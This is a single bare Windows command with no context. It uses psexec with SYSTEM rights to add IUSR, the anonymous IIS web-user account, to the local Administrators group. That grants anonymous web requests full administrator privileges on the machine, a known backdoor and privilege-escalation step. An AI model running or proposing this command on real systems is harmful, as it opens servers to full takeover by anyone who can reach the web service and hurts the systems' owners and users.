psexec \\%COMPUTERNAME% -s net localgroup Administrators IUSR /add
